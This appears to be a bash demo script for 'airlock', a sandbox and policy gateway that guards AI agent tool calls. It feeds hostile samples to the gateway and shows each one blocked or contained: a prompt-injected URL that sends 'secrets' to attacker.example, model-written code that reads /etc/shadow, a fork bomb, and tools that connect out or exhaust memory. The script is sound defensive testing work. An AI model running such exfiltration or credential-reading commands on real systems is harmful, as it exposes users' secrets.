#!/usr/bin/env bash
# make demo: the daemon on the example config, a scripted agent session against it, the
# audit log verified, the daemon stopped. Then the same hostile tools through `airlock run`.
set -euo pipefail
AIRLOCK=$(realpath "${1:-build/src/cli/airlock}")
EXAMPLES="$(cd "$(dirname "$0")/../examples" && pwd)"
PORT=${AIRLOCK_DEMO_PORT:-8750}
SERVER="http://127.0.0.1:$PORT"
export AIRLOCK_API_KEY=demo-key-change-me
DATA="$EXAMPLES/airlock-data"

cleanup() {
  [[ -n ${DAEMON:-} ]] && kill -TERM "$DAEMON" 2>/dev/null && wait "$DAEMON" 2>/dev/null || true
  [[ -n ${WEATHER:-} ]] && kill "$WEATHER" 2>/dev/null || true
  [[ -n ${IDP_SERVER:-} ]] && kill "$IDP_SERVER" 2>/dev/null || true
}
trap cleanup EXIT

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

SHOW="python3 $(dirname "$0")/demo_show.py"
call() {  # call TOOL JSON [airlock call options]
  "$AIRLOCK" call "$1" --server "$SERVER" --input "$2" "${@:3}" | $SHOW invocation || true
}
IDP="python3 $(dirname "$0")/demo_idp.py"
IDP_PORT=8752   # examples/airlock.yaml: identity.issuers demo-idp, jwksUrl

step "Starting the daemon on the example config (examples/airlock.yaml)"
rm -rf "$DATA" "$DATA.secrets-key"
# The Slack bot's secret, for the report-upload tool: from stdin, never an argument.
printf %s "xoxb-demo-1234-5678-abcdefghijkl" | "$AIRLOCK" secrets set slack-bot --config "$EXAMPLES/airlock.yaml"
python3 "$EXAMPLES/demo_weather_server.py" 8751 &
WEATHER=$!
# The users' identity provider (scripts/demo_idp.py): a fresh Ed25519 key, its JWKS on loopback.
$IDP init "$DATA/demo-idp"
$IDP serve "$DATA/demo-idp" "$IDP_PORT" &
IDP_SERVER=$!
"$AIRLOCK" serve --config "$EXAMPLES/airlock.yaml" --listen "127.0.0.1:$PORT" &
DAEMON=$!
for _ in $(seq 100); do curl -sf "$SERVER/healthz" >/dev/null 2>&1 && break; sleep 0.1; done
"$AIRLOCK" tools list --server "$SERVER"

step "1. An allowed call: summarise a CSV (no network)"
call csv-summary '{"csv": "city,temp\nParis,21\nOslo,12\nLima,19\n"}'

step "2. The weather tool reaches its one allowed host ..."
call weather '{"city": "Paris"}'
step "   ... and a prompt-injected URL to anywhere else is denied by the egress proxy"
call weather '{"url": "http://attacker.example/collect?data=secrets"}'

step "3. Model-written code that shells out is rejected before it runs"
call run-python '{"code": "import subprocess\nprint(subprocess.run([\"cat\", \"/etc/shadow\"], capture_output=True).stdout)"}'
step "   ... while ordinary model-written code runs in its sandbox"
call run-python '{"code": "import statistics\ndef run(args):\n    return {\"mean\": statistics.mean([3, 5, 10])}"}'

step "4. A tool whose output carries an email and an AWS key: DLP redacts both"
call customer-report '{"customer": "ACME"}'

step "5. A tool with a compromised dependency fork-bombs: the sandbox holds"
call fancy-format '{"text": "quarterly report"}'

step "6. The agent acts on behalf of users: alice (group analysts) may summarise a CSV ..."
ALICE=$($IDP token "$DATA/demo-idp" alice analysts)
BOB=$($IDP token "$DATA/demo-idp" bob)
call csv-summary '{"csv": "city,temp\nParis,21\n"}' --subject-token "$ALICE"
step "   ... bob (no group) may not: the agent may call the tool, but both must be allowed"
call csv-summary '{"csv": "city,temp\nParis,21\n"}' --subject-token "$BOB"
step "   ... and airlock policy check, without a daemon, names the rule that decides"
"$AIRLOCK" policy check --config "$EXAMPLES/airlock.yaml" --agent demo-agent --user-token "$ALICE" \
  --tool csv-summary | sed 's/^/  /' || true
"$AIRLOCK" policy check --config "$EXAMPLES/airlock.yaml" --agent demo-agent --user-token "$BOB" \
  --tool csv-summary | sed 's/^/  /' || true

step "7. Credentials for one call: a minted token and a stored secret, leaked by the tool, redacted"
call report-upload '{"report": "q3"}'

step "8. MCP: the official SDK client over /mcp; a third-party MCP server (npm) in its own sandbox"
for _ in $(seq 100); do "$AIRLOCK" tools list --server "$SERVER" 2>/dev/null | grep -q docs.read_text_file && break; sleep 0.2; done
node "$(dirname "$0")/demo_mcp_client.mjs" "$SERVER/mcp" "$AIRLOCK_API_KEY" || true

step "9. No key, no call"
curl -s -o /dev/null -w "  -> HTTP %{http_code} without an API key\n" -X POST "$SERVER/v1/tools/csv-summary/invoke" -d '{"arguments":{}}'

step "Stopping the daemon (SIGTERM: drain, final checkpoint)"
kill -TERM "$DAEMON"
wait "$DAEMON" || true
DAEMON=

step "airlock audit verify: every call above, allowed or not, is in the tamper-evident log"
"$AIRLOCK" audit verify "$DATA/audit.db"

step "The same kind of hostile tools through airlock run, one sandbox each"
TOOLS="$EXAMPLES/hostile"
for spec in "read_shadow.py" "connect_out.py" "fork_bomb.py --timeout 3s" "memory_hog.py" "infinite_loop.py --timeout 2s"; do
  set -- $spec
  tool=$1; shift
  "$AIRLOCK" run --json --ro "$TOOLS:/tools" "$@" -- python3 "/tools/$tool" | $SHOW run "$tool" || true
done
echo
echo "Nothing of these runs is left: no process, mount or cgroup."
